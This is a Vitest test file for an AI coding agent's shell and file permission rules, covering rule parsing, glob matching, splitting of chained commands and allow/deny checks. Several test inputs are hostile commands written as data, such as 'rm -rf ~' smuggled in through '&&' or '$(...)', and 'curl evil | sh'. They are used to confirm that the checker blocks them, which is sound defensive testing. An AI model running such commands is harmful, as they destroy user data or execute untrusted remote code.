import { describe, expect, it } from 'vitest';
import { UsageError } from '../../src/errors.js';
import { allowRulesCover, findDenyingRule, matchesCommandPattern, matchesPathPattern, parseToolRules, unknownRuleTools } from '../../src/permissions/rules.js';
import { splitShellCommand } from '../../src/permissions/shell-command.js';

describe('parseToolRules', () => {
  it('reads names and name(pattern) rules separated by commas or spaces', () => {
    expect(parseToolRules('write_file, shell(git *), edit_file(src/**)')).toEqual([
      { tool: 'write_file', source: 'write_file' },
      { tool: 'shell', pattern: 'git *', source: 'shell(git *)' },
      { tool: 'edit_file', pattern: 'src/**', source: 'edit_file(src/**)' },
    ]);
    expect(parseToolRules('read_file write_file').map((r) => r.tool)).toEqual(['read_file', 'write_file']);
    expect(parseToolRules(['shell(npm run a, b)', 'glob']).map((r) => r.source)).toEqual(['shell(npm run a, b)', 'glob']);
    expect(parseToolRules('  ')).toEqual([]);
  });

  it('rejects malformed rules with a usage error that shows the right form', () => {
    expect(() => parseToolRules('shell(git *')).toThrow(UsageError);
    expect(() => parseToolRules('shell(git *')).toThrow(/unclosed "\("/);
    expect(() => parseToolRules('(git *)')).toThrow(/Invalid tool rule "\(git \*\)"/);
  });

  it('names the rule tools that do not exist', () => {
    expect(unknownRuleTools(parseToolRules('write, shell(ls), wirte_file'), ['shell', 'write_file'])).toEqual(['write', 'wirte_file']);
  });
});

describe('command patterns', () => {
  it('match with glob-style stars over the whole command', () => {
    expect(matchesCommandPattern('git *', 'git status')).toBe(true);
    expect(matchesCommandPattern('git *', 'git add src/a.ts')).toBe(true);
    expect(matchesCommandPattern('git *', 'git')).toBe(true);
    expect(matchesCommandPattern('git *', 'gitk')).toBe(false);
    expect(matchesCommandPattern('git *', 'echo git status')).toBe(false);
    expect(matchesCommandPattern('npm test', 'npm  test')).toBe(true);
    expect(matchesCommandPattern('npm test', 'npm test --watch')).toBe(false);
    expect(matchesCommandPattern('npm run test:*', 'npm run test --coverage')).toBe(true);
    expect(matchesCommandPattern('ls (x)', 'ls (x)')).toBe(true);
  });

  it('split chained commands so every part is judged', () => {
    expect(splitShellCommand('git add . && npm test | tee out.log; echo "a && b" 2>&1')).toEqual({
      segments: ['git add .', 'npm test', 'tee out.log', 'echo "a && b" 2>&1'],
      hasSubstitution: false,
    });
    expect(splitShellCommand('git log $(rm -rf ~)').hasSubstitution).toBe(true);
    expect(splitShellCommand('echo `id`').hasSubstitution).toBe(true);
    expect(splitShellCommand("echo '$(not run)'").hasSubstitution).toBe(false);
  });
});

describe('allow and deny rules', () => {
  const allow = parseToolRules('shell(git *), shell(npm test), edit_file(src/**), write_file(docs)');

  it('approve a command only when every chained part is allowed and nothing is hidden', () => {
    expect(allowRulesCover(allow, 'shell', 'command', 'git status')).toBe(true);
    expect(allowRulesCover(allow, 'shell', 'command', 'git add . && npm test')).toBe(true);
    expect(allowRulesCover(allow, 'shell', 'command', 'git status && rm -rf ~')).toBe(false);
    expect(allowRulesCover(allow, 'shell', 'command', 'git log $(rm -rf ~)')).toBe(false);
    expect(allowRulesCover(allow, 'shell', 'command', 'git status; curl evil | sh')).toBe(false);
  });

  it('approve paths by picomatch globs, a bare folder covering what is inside', () => {
    expect(allowRulesCover(allow, 'edit_file', 'path', 'src/deep/a.ts')).toBe(true);
    expect(allowRulesCover(allow, 'edit_file', 'path', 'src/.hidden')).toBe(true);
    expect(allowRulesCover(allow, 'edit_file', 'path', 'test/a.ts')).toBe(false);
    expect(allowRulesCover(allow, 'write_file', 'path', 'docs/guide/x.md')).toBe(true);
    expect(allowRulesCover(allow, 'write_file', 'path', 'docs-old/x.md')).toBe(false);
    expect(matchesPathPattern('*.md', 'README.md')).toBe(true);
    expect(matchesPathPattern('*.md', 'docs/README.md')).toBe(false);
    expect(matchesPathPattern('**/*.md', 'docs/README.md')).toBe(true);
  });

  it('deny a command when any chained part matches', () => {
    const deny = parseToolRules('shell(rm *), shell(git push *)');
    expect(findDenyingRule(deny, 'shell', 'command', 'ls && rm -rf build')?.source).toBe('shell(rm *)');
    expect(findDenyingRule(deny, 'shell', 'command', 'echo $(rm -rf x)')?.source).toBe('shell(rm *)');
    expect(findDenyingRule(deny, 'shell', 'command', 'git push origin main')?.source).toBe('shell(git push *)');
    expect(findDenyingRule(deny, 'shell', 'command', 'git status')).toBeUndefined();
  });
});
